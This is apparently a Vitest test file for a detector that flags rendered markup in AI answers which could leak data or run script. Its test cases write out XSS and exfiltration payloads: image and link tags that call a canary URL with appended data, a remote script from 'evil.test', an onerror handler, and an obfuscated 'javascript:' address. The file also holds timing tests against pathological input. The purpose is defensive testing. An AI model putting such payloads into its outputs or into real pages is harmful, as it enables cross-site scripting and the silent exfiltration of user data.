import { describe, expect, test } from "vitest";
import { findMarkup } from "./find-markup.ts";

const catcherId = "0a1b2c3d4e5f";
const url = `https://portal.test/api/canary/${catcherId}?from=image`;
const harms = (answer: string, isPage = false) => findMarkup(answer, { isPage, catcherId });

describe("an answer does harm where a page renders it", () => {
  test.each([
    ["an image in markdown", `Sure! ![x](${url}&d=hello)`, ["image"]],
    ["an image in angle brackets", `![x](<${url}>)`, ["image"]],
    ["a link in markdown", `[your cart](${url})`, ["link"]],
    ["an image in HTML", `<IMG SRC='${url.toUpperCase()}'>`, ["image"]],
    ["an image set", `<img srcset="${url} 2x">`, ["image"]],
    ["a background", `<p style="background:url(${url})">`, ["image"]],
    ["a script", "Here you are: <script>alert(1)</script>", ["script"]],
    ["a script from elsewhere", "<script src=//evil.test/x.js></script>", ["script"]],
    ["an event handler", "<img src=x onerror=alert(1)>", ["event-handler"]],
    ["a script in an address", '<a href=" java\nscript:alert(1)">x</a>', ["script-address"]],
    ["a form to us", `<form action="${url}">`, ["link"]],
  ])("%s", (_what, answer, expected) => expect(harms(answer)).toEqual(expected));
});

describe("an answer does none", () => {
  test.each([
    ["in a block of code", `Use this:\n\n\`\`\`html\n<script>alert(1)</script>\n<img src="${url}">\n\`\`\`\nDone.`],
    ["in a block that never ends", "```\n<script>alert(1)</script>"],
    ["in a line of code", `Write \`<img src="${url}">\` or \`![x](${url})\`.`],
    ["escaped", "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;"],
    ["as an address in words", `I will not open ${url}.`],
    ["with images of its own", '<img src="https://shop.test/mug.jpg" alt="on sale"> ![mug](https://shop.test/mug.jpg)'],
    ["without any markup", "a < b and c > d, on time"],
  ])("%s", (_what, answer) => expect(harms(answer)).toEqual([]));
});

test("a page of its own has no markdown: what looks like code is not safe there", () => {
  expect(harms("```\n<script>alert(1)</script>\n```", true)).toEqual(["script"]);
  expect(harms(`![x](${url})`, true)).toEqual([]);
});

test("a hostile answer is read at once", () => {
  const started = performance.now();
  for (const piece of ["`", "```\n", "[", "![x](", "<a ", "<img src=", "~~~\n`"])
    harms(piece.repeat(65_536 / piece.length));
  expect(performance.now() - started).toBeLessThan(6_000);
});
